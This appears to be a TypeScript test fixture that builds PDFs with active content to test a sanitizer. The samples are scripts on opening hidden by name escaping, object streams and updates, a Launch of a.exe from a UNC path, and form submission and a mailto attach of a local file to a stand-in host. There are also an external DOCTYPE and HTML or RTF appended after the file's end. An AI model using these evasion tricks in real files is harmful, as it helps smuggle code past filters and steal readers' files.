import { packedStream, pdf } from '../pdf.ts'

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const harmless = '<< /S /URI /URI (https://x.example) >>'
const DOCTYPE = '<!DOCTYPE x SYSTEM "http://x.example/x.dtd">'
const metadata = (begins: string) => `${begins}<x:xmpmeta xmlns:x="adobe:ns:meta/"/>`
const opens = (action: string) => pdf({ catalog: `/OpenAction ${action}` })
const annotation = (inner: string) =>
  pdf({ objects: [`<< /Type /Annot /Rect [0 0 9 9] ${inner} >>`] })
/** A PDF whose action is in an object that is packed into a stream, so that only the table of objects leads to it. */
const hidden = (() => {
  const plain = pdf({ objects: [`<< /Length 80 >>\nstream\n7 0 obj ${SCRIPT} endobj\nendstream`] })
  const at = String(plain.indexOf('7 0 obj')).padStart(10, '0')
  return Buffer.from(
    plain
      .toString('latin1')
      .replace('/Pages 2 0 R ', '/Pages 2 0 R /OpenAction 7 0 R ')
      .replace('trailer', `7 1\n${at} 00000 n \ntrailer`),
    'latin1',
  )
})()

const behind = (more: string) => Buffer.concat([pdf(), Buffer.from(more, 'latin1')])
const PAGE = '<html><script>alert(1)</script></html>'

/** PDFs with active content, from ISO 32000-2, 12.6 (actions), 7.11 (files), 7.5 (structure of a file). */
export const ACTIVE_PDFS: Readonly<Record<string, Buffer>> = {
  'a script on opening, its name in codes': opens('<< /S /#4aava#53cript /#4aS (1) >>'),
  'a script in an object stream of two filters': pdf({
    objects: [
      `<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode] /Length ${(SCRIPT.length + 4) * 2 + 1} >>\nstream\n${Buffer.from(`9 0 ${SCRIPT}`).toString('hex')}>\nendstream`,
    ],
  }),
  'a script that an update put aside': Buffer.concat([
    opens('6 0 R').subarray(0, -6),
    Buffer.from(
      `6 0 obj\n${SCRIPT}\nendobj\n6 0 obj\n${harmless}\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`,
    ),
  ]),
  'a script in the data of a stream': hidden,
  'a program to start': annotation(
    '/Subtype /Link /A << /S /Launch /F (\\\\\\\\x.example\\\\a.exe) >>',
  ),
  'a path of the network': annotation(
    '/Subtype /Link /A << /S /GoToR /D [0 /Fit] /F (\\\\\\\\x.example\\\\a.pdf) >>',
  ),
  'an address of a file': annotation('/Subtype /Link /A << /S /URI /URI (file://x.example/a) >>'),
  'a form that sends itself, behind a harmless action': opens(
    `<< /S /GoTo /D [3 0 R /Fit] /Next [${harmless} << /S /SubmitForm /F (http://x.example) >>] >>`,
  ),
  'a form with a program of its own': pdf({ catalog: '/AcroForm << /Fields [] /XFA (x) >>' }),
  'a file inside': pdf({
    catalog: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>',
    objects: [
      '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
      '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
    ],
  }),
  'a stream that is elsewhere': pdf({
    objects: ['<< /F (http://x.example/a) /FFilter /FlateDecode /Length 0 >>\nstream\n\nendstream'],
  }),
  'an address that opens with the file': opens(harmless),
  'an address that opens with the file, behind a number': pdf({
    catalog: '/OpenAction 6 0 R',
    objects: [harmless],
  }),
  'an address behind a place in the file': opens(
    `<< /S /GoTo /D [3 0 R /Fit] /Next ${harmless} >>`,
  ),
  'an address that opens with a page': pdf({
    objects: [`<< /Type /Page /MediaBox [0 0 9 9] /AA << /O ${harmless} >> >>`],
  }),
  'an address that opens when the file is closed': pdf({ catalog: `/AA << /WC ${harmless} >>` }),
  'a link that opens an address when it is only met': annotation(
    `/Subtype /Link /A ${harmless} /AA << /E ${harmless} >>`,
  ),
  'a button that is no link and leads to an address': annotation(
    `/Subtype /Widget /FT /Btn /A ${harmless}`,
  ),
  'metadata with a document type': pdf({
    catalog: '/Metadata 6 0 R',
    objects: [packedStream('/Type /Metadata /Subtype /XML', metadata(DOCTYPE))],
  }),
  'metadata with a document type, under no name': pdf({
    catalog: '/Metadata 6 0 R',
    objects: [packedStream('', metadata(DOCTYPE))],
  }),
  'broken metadata with a document type': pdf({
    catalog: '/Metadata 6 0 R',
    objects: [packedStream('/Subtype /XML', `${metadata(DOCTYPE)}<`)],
  }),
  'a page of the web behind its end': behind(PAGE),
  'a page of the web behind its end and a line of it': behind(`\r\n\0\0${PAGE}\n`),
  'rich text with an object behind its end': behind('{\\rtf1{\\object{\\*\\objdata 01}}}'),
  'a page of the web in a comment behind its end': behind(`%${PAGE}\n`),
  'a page of the web between two ends': behind(`${PAGE}\nstartxref\n9\n%%EOF\n`),
  'a page of the web behind its end, and an end behind it': behind(`${PAGE}%%EOF\n`),
  'a page of the web behind an update': behind(
    `6 0 obj\nnull\nendobj\nstartxref\n9\n%%EOF\n${PAGE}`,
  ),
  'a command of the menu on opening': opens('<< /S /Named /N /Print >>'),
  'a command of the menu behind a page': opens(
    '<< /S /Named /N /NextPage /Next << /S /Named /N /SaveAs >> >>',
  ),
  'a letter that takes a file with it': annotation(
    '/Subtype /Link /A << /S /URI /URI (mailto:a@x.example?subject=a&%61ttach=c:/a) >>',
  ),
  'media that play': pdf({
    objects: [
      packedStream(
        '/Type /ObjStm /N 1 /First 4',
        '9 0 << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>',
      ),
    ],
  }),
}
